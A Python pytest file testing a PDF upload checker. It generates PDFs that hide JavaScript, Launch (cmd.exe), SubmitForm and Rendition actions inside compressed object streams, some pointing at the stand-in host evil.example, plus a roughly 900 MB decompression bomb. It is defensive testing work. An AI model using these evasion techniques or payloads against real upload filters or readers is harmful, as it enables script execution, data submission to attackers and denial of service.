"""PDF uploads are checked by structure, not bytes: the attacks the byte scan missed (an object stream encoded
twice, a PNG predictor, a Rendition action's script) are refused, and no accepted file yields a script or
launch action when an independent PDF library (pypdf) reads it."""

from __future__ import annotations

import io
import itertools
import zlib
from collections.abc import Callable

import pypdf
import pytest
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

from backend.documents.errors import PdfUnverifiable, UploadActiveContent, UploadRejected
from backend.documents.pdf_structure import REFUSED_ACTIONS, check_pdf_structure
from backend.documents.sniffing import sniff_upload

MAX_BYTES = 20 * 1024 * 1024
COLUMNS = 16


def png_up_predicted(data: bytes) -> bytes:
    """`data` as PNG-predicted rows (Predictor 12, "Up"), the way scanners and optimisers write xref streams."""
    data += b" " * (-len(data) % COLUMNS)
    rows = [data[start : start + COLUMNS] for start in range(0, len(data), COLUMNS)]
    previous = bytes(COLUMNS)
    out = b""
    for row in rows:
        out += b"\x02" + bytes((byte - above) % 256 for byte, above in zip(row, previous, strict=True))
        previous = row
    return out


Encoding = tuple[Callable[[bytes], bytes], bytes, bytes]  # encode, /Filter, /DecodeParms

ENCODINGS: dict[str, Encoding] = {
    "flate": (zlib.compress, b"/FlateDecode", b""),
    "flate-twice": (lambda data: zlib.compress(zlib.compress(data)), b"[/FlateDecode /FlateDecode]", b""),
    "png-predictor": (
        lambda data: zlib.compress(png_up_predicted(data)),
        b"/FlateDecode",
        b"/DecodeParms << /Predictor 12 /Columns %d >>" % COLUMNS,
    ),
    "hex-then-flate-twice": (
        lambda data: zlib.compress(zlib.compress(data)).hex().encode() + b">",
        b"[/ASCIIHexDecode /FlateDecode /FlateDecode]",
        b"",
    ),
}

ACTIONS = {
    "javascript": b"<< /S /JavaScript /JS (app.alert(1)) >>",
    "rendition-with-script": b"<< /S /Rendition /OP 0 /JS (app.launchURL('https://evil.example')) >>",
    "launch": b"<< /S /Launch /F (cmd.exe) >>",
    "submit-form": b"<< /S /SubmitForm /F (https://evil.example/) >>",
    "import-data": b"<< /S /ImportData /F (data.fdf) >>",
    "remote-goto": b"<< /S /GoToR /F (x.pdf) /D [0 /Fit] >>",
    "embedded-goto": b"<< /S /GoToE /T << /R /C /N (a) >> >>",
    "rich-media": b"<< /S /RichMediaExecute /TA 3 0 R /TI 3 0 R >>",
    "plain-link": b"<< /S /URI /URI (https://example.org/) >>",  # harmless: accepted
}


def pdf_with_compressed_action(action: bytes, encoding: Encoding) -> bytes:
    """A well-formed PDF 1.5 whose catalog opens with object 10, which lives inside an object stream (object 4)
    encoded as given, located through a cross-reference stream (object 5): a reader finds the action."""
    encode, filters, parms = encoding
    header = b"10 0 "
    content = encode(header + action)
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        4: b"<< /Type /ObjStm /N 1 /First %d /Filter %s %s /Length %d >>\nstream\n"
        % (len(header), filters, parms, len(content))
        + content
        + b"\nendstream",
    }
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    offsets = {}
    for number, body in bodies.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_offset = len(out)
    offsets[5] = xref_offset
    rows = b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")
    for number in range(1, 11):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + (0).to_bytes(2, "big")
        elif number == 10:
            rows += b"\x02" + (4).to_bytes(4, "big") + (0).to_bytes(2, "big")  # in object stream 4, index 0
        else:
            rows += b"\x00" + (0).to_bytes(4, "big") + (0).to_bytes(2, "big")
    out += (
        b"5 0 obj\n<< /Type /XRef /Size 11 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(rows)
        + rows
        + b"\nendstream\nendobj\n"
    )
    return out + b"startxref\n%d\n%%%%EOF\n" % xref_offset


def pypdf_finds_active_content(data: bytes) -> bool:
    """The oracle: pypdf (not the library the check uses) reads every object and looks for a refused action
    type or a script key."""
    reader = pypdf.PdfReader(io.BytesIO(data), strict=False)
    seen: set[tuple[int, int]] = set()

    def walk(obj: object) -> bool:
        if isinstance(obj, IndirectObject):
            key = (obj.idnum, obj.generation)
            if key in seen:
                return False
            seen.add(key)
            obj = obj.get_object()
        if isinstance(obj, DictionaryObject):
            if "/JS" in obj or obj.get("/S") in REFUSED_ACTIONS:
                return True
            return any(walk(value) for value in obj.values())
        if isinstance(obj, ArrayObject):
            return any(walk(value) for value in obj)
        return False

    return walk(reader.trailer)


@pytest.mark.parametrize("encoding", ENCODINGS.values(), ids=ENCODINGS.keys())
def test_a_script_in_an_object_stream_is_refused_whatever_its_encoding(encoding: Encoding) -> None:
    data = pdf_with_compressed_action(ACTIONS["javascript"], encoding)
    assert pypdf_finds_active_content(data), "the attack file must be real: a reader finds the script"
    assert b"JavaScript" not in data

    with pytest.raises(UploadActiveContent) as refused:
        sniff_upload(data, max_bytes=MAX_BYTES)

    assert refused.value.status_code == 422


def test_a_rendition_action_carrying_a_script_is_refused() -> None:
    plain = ENCODINGS["flate"]
    data = pdf_with_compressed_action(ACTIONS["rendition-with-script"], (lambda data: data, b"[]", b""))
    assert b"/Rendition" in data and b"/JavaScript" not in data  # what the byte scan looked for is absent
    assert pypdf_finds_active_content(data)

    with pytest.raises(UploadActiveContent):
        sniff_upload(data, max_bytes=MAX_BYTES)
    with pytest.raises(UploadActiveContent):
        sniff_upload(pdf_with_compressed_action(ACTIONS["rendition-with-script"], plain), max_bytes=MAX_BYTES)


def test_a_harmless_link_in_a_predicted_object_stream_is_accepted() -> None:
    data = pdf_with_compressed_action(ACTIONS["plain-link"], ENCODINGS["png-predictor"])

    assert sniff_upload(data, max_bytes=MAX_BYTES).media_type == "application/pdf"


def test_no_accepted_upload_yields_an_active_action_to_an_independent_reader() -> None:
    accepted = 0
    for (action_name, action), (encoding_name, encoding) in itertools.product(ACTIONS.items(), ENCODINGS.items()):
        data = pdf_with_compressed_action(action, encoding)
        try:
            sniff_upload(data, max_bytes=MAX_BYTES)
        except UploadRejected:
            continue
        accepted += 1
        assert not pypdf_finds_active_content(data), f"{action_name} in {encoding_name} was accepted"
    assert accepted == len(ENCODINGS)  # the harmless link, in every encoding


def test_an_object_stream_that_inflates_past_the_memory_ceiling_is_refused_not_fatal() -> None:
    inner = zlib.compressobj(9)
    layer = inner.compress(b"10 0 << /Type /Annot >> ")
    chunk = b" " * 10_000_000
    layer += b"".join(inner.compress(chunk) for _ in range(90)) + inner.flush()  # 900 MB once inflated
    bomb = zlib.compress(layer, 9)
    encode: Callable[[bytes], bytes] = lambda _data: bomb  # noqa: E731 - the bytes are prepared above
    data = pdf_with_compressed_action(b"", (encode, b"[/FlateDecode /FlateDecode]", b""))
    assert len(data) < 1_000_000

    with pytest.raises(PdfUnverifiable):
        check_pdf_structure(data)
